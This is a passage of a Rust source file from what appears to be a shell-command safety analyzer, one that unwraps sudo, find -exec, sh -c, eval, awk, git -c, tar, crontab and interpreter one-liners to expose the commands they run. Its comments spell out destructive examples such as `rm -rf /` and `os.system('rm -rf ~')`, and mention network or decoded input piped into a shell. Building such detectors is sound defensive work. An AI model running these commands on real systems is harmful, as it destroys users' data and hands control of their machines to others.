//! Commands that run other commands. `sudo rm -rf /` runs `rm`, `find / -exec rm -rf {} +` runs
//! `rm` on `/`, `bash -c 'rm -rf /'` runs a whole script: each wrapper here is unwrapped into the
//! command it runs (options skipped by the wrapper's own rules), and shell strings (`sh -c`,
//! `eval`, `su -c`, `watch`, `env -S`) are parsed again as bash. A wrapper whose inner command
//! or script only exists at run time is reported as unreadable, never passed over.

use super::parse::{self, Function, ParseProblem, Piece, SimpleCommand, Word};
use regex::Regex;
use std::sync::LazyLock;

/// How deep shell strings may nest (`bash -c "sh -c '...'"`) before the command is refused.
const MAX_SCRIPT_DEPTH: usize = 8;

/// How many simple commands one request may hold (all found, unwrapped and re-parsed) before it
/// is refused: the rules compare commands with one another, and a request must stay cheap.
const MAX_COMMANDS: usize = 10_000;

/// How many wrappers may wrap one another (`sudo nice env sudo ...`) before the command is refused.
const MAX_WRAPPERS: usize = 32;

/// Every simple command a source could run, after unwrapping and re-parsing.
#[derive(Debug, Default)]
pub struct Analysis {
    pub commands: Vec<SimpleCommand>,
    pub functions: Vec<Function>,
    pub problems: Vec<ParseProblem>,
    /// Commands that run something the parser cannot see (a script built at run time).
    pub unreadable: Vec<(SimpleCommand, String)>,
    /// Endless loops that background a command on every turn.
    pub spawning_loops: Vec<String>,
}

/// Parses `source` and unwraps every command in it.
pub fn analyze(source: &str) -> Analysis {
    let mut analysis = Analysis::default();
    let mut next_pipeline = 0;
    add_script(
        &mut analysis,
        source,
        &Outer::default(),
        0,
        &mut next_pipeline,
    );
    analysis
}

/// What a command parsed from a string inherits from the command that held the string.
#[derive(Default, Clone)]
struct Outer {
    via: Vec<String>,
    redirects: Vec<parse::Redirect>,
}

fn add_script(
    analysis: &mut Analysis,
    source: &str,
    outer: &Outer,
    depth: usize,
    next_pipeline: &mut usize,
) {
    let script = parse::parse(source, *next_pipeline);
    *next_pipeline = script
        .commands
        .iter()
        .map(|c| c.pipeline)
        .max()
        .unwrap_or(*next_pipeline)
        + 1_000;
    analysis.problems.extend(script.problems);
    analysis.functions.extend(script.functions);
    analysis.spawning_loops.extend(script.spawning_loops);
    // Past the limit the command is refused anyway; the rest is not looked at (commands look
    // through their siblings for the pipeline stages that feed them).
    let siblings: Vec<SimpleCommand> = script
        .commands
        .into_iter()
        .take(MAX_COMMANDS + 1)
        .map(|mut command| {
            command.via.splice(0..0, outer.via.iter().cloned());
            command.redirects.extend(outer.redirects.iter().cloned());
            command
        })
        .collect();
    for command in &siblings {
        add_command(
            analysis,
            command.clone(),
            &siblings,
            depth,
            0,
            next_pipeline,
        );
    }
}

/// Adds a command and everything it runs. `siblings` are the commands of the same script (the
/// stages feeding a pipeline are among them); `wrappers` counts the wrappers around it.
fn add_command(
    analysis: &mut Analysis,
    command: SimpleCommand,
    siblings: &[SimpleCommand],
    depth: usize,
    wrappers: usize,
    next_pipeline: &mut usize,
) {
    if analysis.commands.len() >= MAX_COMMANDS {
        let near = format!("more than {MAX_COMMANDS} simple commands");
        if !analysis.problems.iter().any(|p| p.near == near) {
            analysis.problems.push(ParseProblem {
                line: 1,
                column: 1,
                near,
            });
        }
        return;
    }
    let mut runs = vec![unwrap(&command, siblings)];
    runs.extend(environment_scripts(&command));
    runs.push(stdin_program(&command, siblings));
    analysis.commands.push(command.clone());
    for run in runs {
        match run {
            Unwrapped::Nothing => {}
            Unwrapped::Commands(_) if wrappers >= MAX_WRAPPERS => analysis.unreadable.push((
                command.clone(),
                format!("wrappers nest deeper than {MAX_WRAPPERS} levels"),
            )),
            Unwrapped::Commands(inner) => {
                for inner in inner {
                    add_command(
                        analysis,
                        inner,
                        siblings,
                        depth,
                        wrappers + 1,
                        next_pipeline,
                    );
                }
            }
            Unwrapped::Script { source, via } if depth < MAX_SCRIPT_DEPTH => {
                let mut outer = Outer {
                    via: command.via.clone(),
                    redirects: command.redirects.clone(),
                };
                outer.via.push(via);
                add_script(analysis, &source, &outer, depth + 1, next_pipeline);
            }
            Unwrapped::MaybeScripts { sources, via } if depth < MAX_SCRIPT_DEPTH => {
                let mut outer = Outer {
                    via: command.via.clone(),
                    redirects: command.redirects.clone(),
                };
                outer.via.push(via);
                for source in sources {
                    if parse::parse(&source, 0).problems.is_empty() {
                        add_script(analysis, &source, &outer, depth + 1, next_pipeline);
                    }
                }
            }
            Unwrapped::Script { .. } | Unwrapped::MaybeScripts { .. } => {
                analysis.unreadable.push((
                    command.clone(),
                    format!("shell strings nest deeper than {MAX_SCRIPT_DEPTH} levels"),
                ))
            }
            Unwrapped::Unreadable(why) => analysis.unreadable.push((command.clone(), why)),
        }
    }
}

/// What a wrapper runs.
enum Unwrapped {
    Nothing,
    Commands(Vec<SimpleCommand>),
    Script {
        source: String,
        via: String,
    },
    /// Strings in another language's code that may be shell commands: each one that parses as
    /// bash is read as a script (one that does not is just a string).
    MaybeScripts {
        sources: Vec<String>,
        via: String,
    },
    Unreadable(String),
}

/// The command(s) a wrapper runs, if `command` is a wrapper.
fn unwrap(command: &SimpleCommand, siblings: &[SimpleCommand]) -> Unwrapped {
    let Some(name) = command.name() else {
        return Unwrapped::Nothing;
    };
    let args = &command.argv[1..];
    let inner_at = |at: Option<usize>| match at {
        Some(at) if at < args.len() => {
            Unwrapped::Commands(vec![inner(command, &name, &args[at..])])
        }
        _ => Unwrapped::Nothing,
    };
    match name.as_str() {
        "env" => env(command, args),
        "sudo" | "doas" | "pkexec" | "run0" => sudo(command, &name, args),
        "nohup" | "setsid" | "unbuffer" | "fakeroot" | "proxychains" | "proxychains4"
        | "torsocks" | "catchsegv" | "chronic" | "nocache" | "eatmydata" | "firejail" => {
            inner_at(skip_options(args, &[]))
        }
        "time" => inner_at(skip_options(args, &["-f", "-o", "--format", "--output"])),
        "nice" => inner_at(skip_options(args, &["-n", "--adjustment"])),
        "ionice" => inner_at(skip_options(args, &["-c", "-n", "--class", "--classdata"])),
        "stdbuf" => inner_at(skip_options(args, &["-i", "-o", "-e"])),
        "strace" | "ltrace" => inner_at(skip_options(
            args,
            &[
                "-o", "-e", "-p", "-s", "-u", "-E", "-a", "-b", "-O", "-P", "-S", "-X",
            ],
        )),
        "command" | "builtin" => {
            let lookup = args
                .iter()
                .map_while(|a| a.text().filter(|t| t.starts_with('-')))
                .any(|t| t.contains('v') || t.contains('V'));
            if lookup {
                return Unwrapped::Nothing;
            }
            inner_at(skip_options(args, &[]))
        }
        "exec" => inner_at(skip_options(args, &["-a"])),
        "timeout" => {
            inner_at(skip_options(args, &["-s", "-k", "--signal", "--kill-after"]).map(|at| at + 1))
        }
        "chrt" | "taskset" => inner_at(skip_options(args, &[]).map(|at| at + 1)),
        "chroot" => inner_at(skip_options(args, &["--userspec", "--groups"]).map(|at| at + 1)),
        "busybox" | "toybox" => inner_at(Some(0)),
        "xargs" => xargs(command, args, siblings),
        "parallel" => parallel(command, args),
        "find" => find_exec(command, args),
        "eval" => eval(args),
        "su" | "script" => dash_c_string(args, &name),
        "flock" => flock(command, args),
        "watch" => watch(args),
        "runuser" => runuser(command, args),
        "systemd-run" => inner_at(skip_options(args, SYSTEMD_RUN_VALUES)),
        "nsenter" => inner_at(skip_options(
            args,
            &["-t", "--target", "-S", "--setuid", "-G", "--setgid"],
        )),
        "unshare" => inner_at(skip_options(
            args,
            &[
                "-R",
                "--root",
                "-w",
                "--wd",
                "-S",
                "--setuid",
                "-G",
                "--setgid",
                "--propagation",
                "--map-user",
                "--map-group",
                "--map-users",
                "--map-groups",
            ],
        )),
        "setpriv" => inner_at(skip_options(args, SETPRIV_VALUES)),
        "coproc" => coproc(command, args),
        "trap" => trap(args),
        "alias" => alias(args),
        "git" => git_config_commands(args),
        "tar" => tar_commands(args),
        "ssh" => ssh(args),
        _ if is_awk(&name) => awk(args),
        _ if is_interpreter(&name) => interpreter_shell_calls(&name, args),
        _ if is_shell(&name) => match shell_c(args, &name) {
            Unwrapped::Nothing => script_operand(args, &name),
            found => found,
        },
        "source" | "." => script_operand(args, &name),
        _ => Unwrapped::Nothing,
    }
}

static CODE_STRING: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"'((?:[^'\\]|\\.)*)'|"((?:[^"\\]|\\.)*)""#).expect("a valid regex")
});

/// The string literals in a piece of inline code, with `\x` escapes reduced to `x`.
pub fn code_strings(code: &str) -> Vec<String> {
    CODE_STRING
        .captures_iter(code)
        .filter_map(|c| c.get(1).or_else(|| c.get(2)))
        .map(|m| {
            let mut out = String::new();
            let mut chars = m.as_str().chars();
            while let Some(c) = chars.next() {
                match c {
                    '\\' => out.extend(chars.next()),
                    c => out.push(c),
                }
            }
            out
        })
        .collect()
}

/// The program text of an interpreter's `-c`/`-e` option (`-ne`, `-pe` and the like too).
pub fn inline_code(args: &[Word]) -> Option<String> {
    let at = args.iter().position(|w| {
        w.text().is_some_and(|t| {
            t == "-c"
                || t == "-e"
                || t == "-E"
                || t == "-r"
                || t == "--eval"
                || (t.starts_with('-') && !t.starts_with("--") && t.ends_with('e') && t.len() <= 4)
        })
    })?;
    args.get(at + 1)?.text()
}

/// Calls in inline interpreter code that hand a string or a list of words to a shell or exec.
const CODE_RUNS_COMMANDS: &[&str] = &[
    "system",
    "popen",
    "subprocess",
    "exec",
    "spawn",
    "child_process",
    "`",
    "qx",
    "%x",
    "Open3",
    "pty.",
    "shell_exec",
    "passthru",
    "proc_open",
    "Process",
    "Command",
];

static PERL_QX: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"\bqx\s*(?:\(([^)]*)\)|\{([^}]*)\}|\[([^\]]*)\])").expect("a valid regex")
});

/// `python -c "os.system('rm -rf ~')"`, `ruby -e 'system("rm", "-rf", "/")'`: when the code runs
/// commands, each literal string in it and all of them joined as one argv are read as bash.
fn interpreter_shell_calls(name: &str, args: &[Word]) -> Unwrapped {
    let Some(code) = inline_code(args) else {
        return Unwrapped::Nothing;
    };
    if !CODE_RUNS_COMMANDS.iter().any(|m| code.contains(m)) {
        return Unwrapped::Nothing;
    }
    let mut sources = code_strings(&code);
    // `run(["rm", "-rf", "/"])`: the words of an argv list, from wherever the list starts.
    let words: Vec<String> = sources.iter().map(|s| parse::shell_quote(s)).collect();
    for start in 0..words.len().min(16) {
        sources.push(words[start..].join(" "));
    }
    // Perl's `qx(...)` holds a command.
    sources.extend(PERL_QX.captures_iter(&code).filter_map(|c| {
        c.iter()
            .skip(1)
            .flatten()
            .next()
            .map(|m| m.as_str().to_string())
    }));
    // Perl and Ruby backticks hold a command too.
    sources.extend(code.split('`').skip(1).step_by(2).map(String::from));
    Unwrapped::MaybeScripts {
        sources,
        via: format!("{name} code"),
    }
}

const SYSTEMD_RUN_VALUES: &[&str] = &[
    "-u",
    "--unit",
    "-p",
    "--property",
    "-E",
    "--setenv",
    "-H",
    "--host",
    "-M",
    "--machine",
    "--description",
    "--slice",
    "--working-directory",
    "--uid",
    "--gid",
    "--nice",
    "--on-active",
    "--on-boot",
    "--on-startup",
    "--on-unit-active",
    "--on-unit-inactive",
    "--on-calendar",
    "--timer-property",
    "--path-property",
    "--socket-property",
    "--service-type",
    "--expand-environment",
];

const SETPRIV_VALUES: &[&str] = &[
    "--reuid",
    "--regid",
    "--ruid",
    "--rgid",
    "--euid",
    "--egid",
    "--groups",
    "--inh-caps",
    "--ambient-caps",
    "--bounding-set",
    "--securebits",
    "--pdeathsig",
    "--selinux-label",
    "--apparmor-profile",
    "--landlock-access",
    "--landlock-rule",
];

/// `runuser -u USER [--] CMD ARGS` runs CMD; `runuser [-] USER -c CMD` runs a shell string.
fn runuser(command: &SimpleCommand, args: &[Word]) -> Unwrapped {
    let has = |flags: &[&str]| {
        args.iter().any(|w| {
            w.text()
                .is_some_and(|t| flags.contains(&t.as_str()) || t.starts_with("--user="))
        })
    };
    if has(&["-c", "--command"])
        || args
            .iter()
            .any(|w| w.text().is_some_and(|t| t.starts_with("--command=")))
    {
        return dash_c_string(args, "runuser");
    }
    if !has(&["-u", "--user"]) {
        return Unwrapped::Nothing;
    }
    let at = skip_options(
        args,
        &[
            "-u",
            "--user",
            "-g",
            "--group",
            "-G",
            "--supp-group",
            "-w",
            "--whitelist-environment",
            "-s",
            "--shell",
        ],
    );
    match at {
        Some(at) if at < args.len() => {
            Unwrapped::Commands(vec![inner(command, "runuser", &args[at..])])
        }
        _ => Unwrapped::Nothing,
    }
}

/// `coproc CMD ARGS`, `coproc NAME { CMDS; }`: bash runs the command in the background.
fn coproc(command: &SimpleCommand, args: &[Word]) -> Unwrapped {
    let texts: Vec<Option<String>> = args.iter().take(2).map(|w| w.text()).collect();
    let at = match texts.as_slice() {
        [Some(open), ..] if open == "{" || open == "(" => 1,
        [Some(_), Some(open)] if open == "{" || open == "(" => 2,
        _ => 0,
    };
    match at < args.len() {
        true => Unwrapped::Commands(vec![inner(command, "coproc", &args[at..])]),
        false => Unwrapped::Nothing,
    }
}

/// `trap 'CMDS' SIGNALS`: the string runs when a signal (or EXIT) comes.
fn trap(args: &[Word]) -> Unwrapped {
    let i = match args.first().and_then(|w| w.text()).as_deref() {
        Some("-p" | "-l" | "-P") => return Unwrapped::Nothing,
        Some("--") => 1,
        _ => 0,
    };
    // `trap SIGNAL` alone (one operand) resets, as does `trap - SIGNAL`.
    if args.len() < i + 2 || args[i].text().as_deref() == Some("-") {
        return Unwrapped::Nothing;
    }
    script_from(args.get(i), "trap")
}

/// `alias NAME='CMDS'`: with `expand_aliases` on (or in an interactive shell) NAME runs CMDS, so
/// every alias value is read as the script it may become.
fn alias(args: &[Word]) -> Unwrapped {
    let mut sources = Vec::new();
    for word in args {
        let Some((_, value)) = split_assignment(word) else {
            continue;
        };
        match value.text() {
            Some(text) => sources.push(text),
            None => {
                return Unwrapped::Unreadable(format!(
                    "an alias is built at run time ({})",
                    word.source
                ))
            }
        }
    }
    match sources.is_empty() {
        true => Unwrapped::Nothing,
        false => Unwrapped::Script {
            source: sources.join("\n"),
            via: "alias".into(),
        },
    }
}

/// `NAME=value` in one word: the name and the value as a word of its own.
fn split_assignment(word: &Word) -> Option<(String, Word)> {
    let Some(Piece::Literal { text, glob }) = word.pieces.first() else {
        return None;
    };
    let (name, rest) = text.split_once('=')?;
    let valid = !name.is_empty()
        && name
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || c == '_' || c == '%')
        && !name.starts_with(|c: char| c.is_ascii_digit());
    if !valid {
        return None;
    }
    let mut pieces = word.pieces.clone();
    pieces[0] = Piece::Literal {
        text: rest.to_string(),
        glob: *glob,
    };
    let value = Word {
        pieces,
        source: word.source.clone(),
        downloads: word.downloads,
    };
    Some((name.to_string(), value))
}

/// Whether a git config key's value is a command git runs (`core.pager`, `alias.x=!...`).
fn git_key_runs_command(key: &str, value: &str) -> bool {
    let key = key.to_ascii_lowercase();
    if key.starts_with("alias.") || key == "credential.helper" {
        return value.starts_with('!');
    }
    key.starts_with("pager.")
        || [
            "pager",
            "editor",
            "sshcommand",
            "askpass",
            "external",
            "textconv",
            "command",
            "driver",
            "clean",
            "smudge",
            "process",
            "program",
            "fsmonitor",
            "packobjectshook",
            "uploadpack",
            "receivepack",
            "browser",
            "cmd",
            "difffilter",
            "helper",
        ]
        .iter()
        .any(|suffix| key.rsplit('.').next() == Some(suffix))
}

/// `git -c KEY=VALUE ...` where the key names a command: the value runs as a shell string;
/// `git config KEY VALUE` stores one for later git commands.
fn git_config_commands(args: &[Word]) -> Unwrapped {
    let mut sources = Vec::new();
    let operands: Vec<String> = args
        .iter()
        .filter_map(|w| w.text())
        .filter(|t| !t.starts_with('-'))
        .collect();
    if let [config, key, value, ..] = operands.as_slice() {
        if config == "config" && git_key_runs_command(key, value) {
            sources.push(value.trim_start_matches('!').to_string());
        }
    }
    let mut i = 0;
    while i < args.len() {
        let Some(text) = args[i].text() else { break };
        let pair = match text.as_str() {
            "-c" => args.get(i + 1),
            "-C" | "--git-dir" | "--work-tree" | "--namespace" | "--exec-path" => {
                i += 2;
                continue;
            }
            t if t.starts_with('-') => {
                i += 1;
                continue;
            }
            _ => break,
        };
        i += 2;
        let Some(pair) = pair else { break };
        let Some((key, value)) = pair.text().and_then(|t| {
            t.split_once('=')
                .map(|(k, v)| (k.to_string(), v.to_string()))
        }) else {
            if pair.text().is_none() {
                return Unwrapped::Unreadable(format!(
                    "`git -c` sets a value built at run time ({})",
                    pair.source
                ));
            }
            continue;
        };
        if git_key_runs_command(&key, &value) {
            sources.push(value.trim_start_matches('!').to_string());
        }
    }
    match sources.is_empty() {
        true => Unwrapped::Nothing,
        false => Unwrapped::Script {
            source: sources.join("\n"),
            via: "git -c".into(),
        },
    }
}

/// `tar --to-command=CMD`, `-I CMD`, `--use-compress-program=CMD`, `--checkpoint-action=exec=CMD`,
/// `--rsh-command=CMD`: commands tar runs through a shell.
fn tar_commands(args: &[Word]) -> Unwrapped {
    const WITH_COMMAND: &[&str] = &[
        "--to-command",
        "--use-compress-program",
        "--rsh-command",
        "--checkpoint-action",
        "-I",
    ];
    let mut sources = Vec::new();
    for (i, word) in args.iter().enumerate() {
        let Some(text) = word.text() else { continue };
        let value = match text.split_once('=') {
            Some((option, value)) if WITH_COMMAND.contains(&option) => Some(Word::literal(value)),
            _ if WITH_COMMAND.contains(&text.as_str()) => args.get(i + 1).cloned(),
            _ => continue,
        };
        let Some(value) = value else { continue };
        match value.text() {
            Some(v) => sources.push(v.strip_prefix("exec=").unwrap_or(&v).to_string()),
            None => {
                return Unwrapped::Unreadable(format!(
                    "`tar {text}` runs a command built at run time"
                ))
            }
        }
    }
    match sources.is_empty() {
        true => Unwrapped::Nothing,
        false => Unwrapped::Script {
            source: sources.join("\n"),
            via: "tar".into(),
        },
    }
}

/// `ssh [options] HOST CMD ...`: the remote shell runs the joined words.
fn ssh(args: &[Word]) -> Unwrapped {
    const WITH_VALUE: &[&str] = &[
        "-b", "-c", "-D", "-E", "-e", "-F", "-I", "-i", "-J", "-L", "-l", "-m", "-O", "-o", "-p",
        "-Q", "-R", "-S", "-W", "-w", "-B",
    ];
    let Some(host) = skip_options(args, WITH_VALUE) else {
        return Unwrapped::Nothing;
    };
    let rest = &args[(host + 1).min(args.len())..];
    if rest.is_empty() {
        return Unwrapped::Nothing;
    }
    let texts: Option<Vec<String>> = rest.iter().map(|w| w.text()).collect();
    match texts {
        Some(texts) => Unwrapped::Script {
            source: texts.join(" "),
            via: "ssh".into(),
        },
        None => Unwrapped::Unreadable("`ssh` runs a remote command built at run time".into()),
    }
}

fn is_awk(name: &str) -> bool {
    matches!(name, "awk" | "gawk" | "mawk" | "nawk" | "busybox-awk")
}

static AWK_SYSTEM: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"\bsystem\s*\(\s*("(?:[^"\\]|\\.)*")?\s*(\))?"#).expect("a valid regex")
});
static AWK_PIPE_TO: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"(?:^|[^|])\|&?\s*(?:("(?:[^"\\]|\\.)*")|(getline\b))?"#).expect("a valid regex")
});
static AWK_PIPE_FROM: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r#"("(?:[^"\\]|\\.)*")\s*\|&?\s*getline"#).expect("a valid regex"));

/// `awk 'BEGIN{system("CMD")}'`, `print | "CMD"`, `"CMD" | getline`: awk runs CMD with `sh -c`.
fn awk(args: &[Word]) -> Unwrapped {
    let Some(at) = skip_options(
        args,
        &["-F", "-v", "-f", "-i", "-l", "-E", "--file", "--include"],
    ) else {
        return Unwrapped::Nothing;
    };
    let has_file = args[..at].iter().any(|w| {
        w.text()
            .is_some_and(|t| t == "-f" || t == "--file" || t == "-E")
    });
    let program = match args.get(at) {
        Some(word) if !has_file => word,
        _ => return Unwrapped::Nothing,
    };
    let Some(code) = program.text() else {
        return Unwrapped::Nothing;
    };
    let mut sources = Vec::new();
    for captures in AWK_SYSTEM.captures_iter(&code) {
        match (captures.get(1), captures.get(2)) {
            (Some(literal), Some(_)) => sources.push(awk_string(literal.as_str())),
            _ => {
                return Unwrapped::Unreadable(
                    "awk's `system()` runs a command built at run time".into(),
                )
            }
        }
    }
    for captures in AWK_PIPE_TO.captures_iter(&code) {
        match (captures.get(1), captures.get(2)) {
            (Some(literal), _) => sources.push(awk_string(literal.as_str())),
            // `"CMD" | getline`: the command is the string before the pipe, read below.
            (None, Some(_)) => {}
            (None, None) => {
                return Unwrapped::Unreadable("awk pipes into a command built at run time".into())
            }
        }
    }
    for captures in AWK_PIPE_FROM.captures_iter(&code) {
        sources.push(awk_string(&captures[1]));
    }
    match sources.is_empty() {
        true => Unwrapped::Nothing,
        false => Unwrapped::Script {
            source: sources.join("\n"),
            via: "awk".into(),
        },
    }
}

/// An awk string literal's value (`\"` and `\\` unescaped).
fn awk_string(literal: &str) -> String {
    let inner = &literal[1..literal.len() - 1];
    inner.replace("\\\"", "\"").replace("\\\\", "\\")
}

/// Variables whose value is a shell command some program runs, or the file of one.
fn environment_scripts(command: &SimpleCommand) -> Vec<Unwrapped> {
    let declares = command.name().is_some_and(|n| {
        matches!(
            n.as_str(),
            "env" | "export" | "declare" | "typeset" | "local" | "readonly"
        )
    });
    let mut pairs: Vec<(String, Word)> = command.assignments.clone();
    if declares {
        pairs.extend(command.argv[1..].iter().filter_map(split_assignment));
    }
    pairs
        .into_iter()
        .filter_map(|(name, value)| environment_script(&name, &value))
        .collect()
}

fn environment_script(name: &str, value: &Word) -> Option<Unwrapped> {
    const COMMANDS: &[&str] = &[
        "PROMPT_COMMAND",
        "PS0",
        "PS1",
        "PS2",
        "PS4",
        "GIT_SSH_COMMAND",
        "GIT_SSH",
        "GIT_PAGER",
        "GIT_EDITOR",
        "GIT_SEQUENCE_EDITOR",
        "GIT_EXTERNAL_DIFF",
        "GIT_ASKPASS",
        "SSH_ASKPASS",
        "PAGER",
        "MANPAGER",
        "EDITOR",
        "VISUAL",
        "LESSOPEN",
        "LESSCLOSE",
    ];
    let is_function = name.starts_with("BASH_FUNC_");
    if name == "BASH_ENV" || name == "ENV" {
        // A file read as a script by every non-interactive bash (ENV: sh): a path written out is
        // a script file like any other; one built at run time (`<(...)`) hides its text.
        return (!value.is_static()).then(|| {
            Unwrapped::Unreadable(format!(
                "`{name}` names a startup script only known at run time ({})",
                value.source
            ))
        });
    }
    if !COMMANDS.contains(&name) && !is_function {
        return None;
    }
    Some(match value.text() {
        Some(text) if is_function => Unwrapped::Script {
            source: format!("f{text}"),
            via: name.to_string(),
        },
        Some(text) => Unwrapped::Script {
            source: text.trim_start_matches('|').to_string(),
            via: name.to_string(),
        },
        None => Unwrapped::Unreadable(format!(
            "`{name}` holds a command built at run time ({})",
            value.source
        )),
    })
}

/// A shell, interpreter or `at` reading its program from stdin: from a here-string or here-doc,
/// or from the stage before it in a pipeline. Literal text (`echo 'CMDS' | sh`) is read as the
/// program; anything else (`base64 -d | sh`, `cat /dev/tcp/... | sh`) is unreadable. Downloads
/// piped in are left to the `download-to-shell` rule.
fn stdin_program(command: &SimpleCommand, siblings: &[SimpleCommand]) -> Unwrapped {
    let Some(name) = command.name() else {
        return Unwrapped::Nothing;
    };
    let args = &command.argv[1..];
    if !reads_program_from_stdin(&name, args) {
        return Unwrapped::Nothing;
    }
    let here = command
        .redirects
        .iter()
        .rev()
        .find(|r| r.operator == "<<" || r.operator == "<<<" || r.operator == "<");
    let text = match here {
        Some(redirect) if redirect.operator == "<" => {
            let network = redirect
                .target
                .text()
                .is_none_or(|t| t.starts_with("/dev/tcp/") || t.starts_with("/dev/udp/"));
            if network {
                return Unwrapped::Unreadable(format!(
                    "`{name}` reads its program from {}",
                    redirect.target.source
                ));
            }
            return Unwrapped::Nothing;
        }
        Some(redirect) if redirect.target.downloads => return Unwrapped::Nothing,
        Some(redirect) => match redirect.target.text() {
            Some(text) => text,
            None => {
                return Unwrapped::Unreadable(format!(
                    "`{name}` reads a program built at run time ({})",
                    redirect.target.source
                ))
            }
        },
        None if command.stage == 0 => return Unwrapped::Nothing,
        None => match piped_text(command, siblings) {
            Ok(Some(text)) => text,
            Ok(None) => return Unwrapped::Nothing,
            Err(why) => {
                return Unwrapped::Unreadable(format!("`{name}` reads its program from {why}"))
            }
        },
    };
    if name == "crontab" {
        return Unwrapped::Script {
            source: crontab_commands(&text),
            via: "crontab".into(),
        };
    }
    let runs_shell = matches!(
        name.as_str(),
        "source" | "." | "at" | "batch" | "su" | "sudo" | "doas"
    );
    match is_shell(&name) || runs_shell {
        true => Unwrapped::Script {
            source: text,
            via: format!("{name} <stdin>"),
        },
        // An interpreter's program is checked like its `-c`/`-e` one-liner.
        false => {
            let flag = if name.starts_with("python") {
                "-c"
            } else {
                "-e"
            };
            let argv = vec![
                Word::literal(&name),
                Word::literal(flag),
                Word::literal(&text),
            ];
            Unwrapped::Commands(vec![inner(command, &format!("{name} <stdin>"), &argv)])
        }
    }
}

/// The commands of a crontab: each line less its five time fields (or `@reboot`-style one).
fn crontab_commands(table: &str) -> String {
    table
        .lines()
        .map(str::trim)
        .filter(|l| !l.is_empty() && !l.starts_with('#'))
        // `NAME=value` lines set variables, they run nothing.
        .filter(|l| l.split_once('=').is_none_or(|(k, _)| k.contains(' ')))
        .map(|l| {
            let fields = if l.starts_with('@') { 1 } else { 5 };
            l.splitn(fields + 1, char::is_whitespace)
                .nth(fields)
                .unwrap_or("")
                .to_string()
        })
        .collect::<Vec<_>>()
        .join("\n")
}

/// The text piped into a command when the stage before it is `echo`/`printf` of literal words.
/// `Ok(None)`: a download feeds it (another rule's case). `Err`: text only known at run time.
fn piped_text(
    command: &SimpleCommand,
    siblings: &[SimpleCommand],
) -> Result<Option<String>, String> {
    let earlier = |c: &&SimpleCommand| c.pipeline == command.pipeline && c.stage < command.stage;
    if siblings
        .iter()
        .filter(earlier)
        .any(|c| c.name().is_some_and(|n| parse::is_downloader(&n)))
    {
        return Ok(None);
    }
    let feeders: Vec<&SimpleCommand> = siblings
        .iter()
        .filter(|c| c.pipeline == command.pipeline && c.stage + 1 == command.stage)
        .collect();
    let mut text = String::new();
    for feeder in &feeders {
        let name = feeder.name().unwrap_or_default();
        let words: Option<Vec<String>> = feeder.argv[1..].iter().map(|w| w.text()).collect();
        match (name.as_str(), words) {
            ("echo", Some(words)) => {
                let is_flag = |w: &String| {
                    w.len() > 1 && w.starts_with('-') && w[1..].chars().all(|c| "neE".contains(c))
                };
                let escapes = words
                    .iter()
                    .take_while(|w| is_flag(w))
                    .any(|w| w.contains('e'));
                let words: Vec<&String> = words.iter().skip_while(|w| is_flag(w)).collect();
                if escapes && words.iter().any(|w| w.contains('\\')) {
                    return Err(format!("the output of `{}`", feeder.shown()));
                }
                let words: Vec<&str> = words.iter().map(|w| w.as_str()).collect();
                text.push_str(&words.join(" "));
                text.push('\n');
            }
            ("cat", Some(words)) if words.iter().all(|w| w == "-") => {
                let here = feeder
                    .redirects
                    .iter()
                    .rev()
                    .find(|r| r.operator == "<<" || r.operator == "<<<");
                match here.and_then(|r| r.target.text()) {
                    Some(body) => text.push_str(&body),
                    None => return Err(format!("the output of `{}`", feeder.shown())),
                }
            }
            ("printf", Some(words)) if words.first().is_some_and(|f| !f.contains(['%', '\\'])) => {
                text.push_str(&words[0]);
                text.push('\n');
            }
            _ => return Err(format!("the output of `{}`", feeder.shown())),
        }
    }
    match feeders.is_empty() {
        true => Err("a pipe".into()),
        false => Ok(Some(text)),
    }
}

/// The command a wrapper runs: the remaining words, with the wrapper's context.
fn inner(outer: &SimpleCommand, wrapper: &str, argv: &[Word]) -> SimpleCommand {
    let mut inner = outer.clone();
    inner.argv = argv.to_vec();
    inner.assignments.clear();
    inner.via.push(wrapper.to_string());
    inner
}

/// Shells whose `-c` takes a script and which read a script from stdin without one.
pub fn is_shell(name: &str) -> bool {
    matches!(
        name,
        "sh" | "bash"
            | "zsh"
            | "dash"
            | "ksh"
            | "mksh"
            | "ash"
            | "yash"
            | "posh"
            | "fish"
            | "rbash"
    )
}

/// Interpreters that read a program from standard input when given none.
pub fn is_interpreter(name: &str) -> bool {
    let base = name.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
    matches!(
        base,
        "python"
            | "perl"
            | "ruby"
            | "node"
            | "nodejs"
            | "php"
            | "lua"
            | "tclsh"
            | "Rscript"
            | "bun"
            | "deno"
    )
}

/// Whether a shell, interpreter or scheduler takes its program from standard input.
pub fn reads_program_from_stdin(name: &str, args: &[Word]) -> bool {
    let first = args.first().and_then(|w| w.text());
    match name {
        "source" | "." => {
            return first.is_some_and(|t| {
                matches!(
                    t.as_str(),
                    "/dev/stdin" | "-" | "/dev/fd/0" | "/proc/self/fd/0"
                )
            })
        }
        // `crontab -` (or no file) installs the table it reads from stdin.
        "crontab" => {
            let options = ["-l", "-r", "-e", "-i"];
            let lists = args
                .iter()
                .any(|w| w.text().is_some_and(|t| options.contains(&t.as_str())));
            let file = args
                .iter()
                .any(|w| w.text().is_none_or(|t| !t.starts_with('-')));
            return !lists && (!file || first.as_deref() == Some("-"));
        }
        // `su USER` and `sudo -s` / `sudo -i` without a command run a shell reading stdin.
        "su" => {
            return !args.iter().any(|w| {
                w.text().is_none_or(|t| {
                    t == "--command"
                        || (t.starts_with('-') && !t.starts_with("--") && t.contains('c'))
                })
            })
        }
        "sudo" | "doas" => {
            let options: Vec<String> = args
                .iter()
                .map_while(|w| w.text().filter(|t| t.starts_with('-')))
                .collect();
            return options.len() == args.len()
                && options.iter().any(|o| {
                    !o.starts_with("--") && (o.contains('s') || o.contains('i'))
                        || o == "--shell"
                        || o == "--login"
                });
        }
        // `at TIME` and `batch` read the commands to run from stdin unless `-f FILE` names them.
        "at" | "batch" => {
            let stdin_file = args.windows(2).any(|w| {
                w[0].text().is_some_and(|t| t == "-f")
                    && w[1].text().is_some_and(|t| t == "/dev/stdin" || t == "-")
            });
            return stdin_file
                || !args.iter().any(|w| {
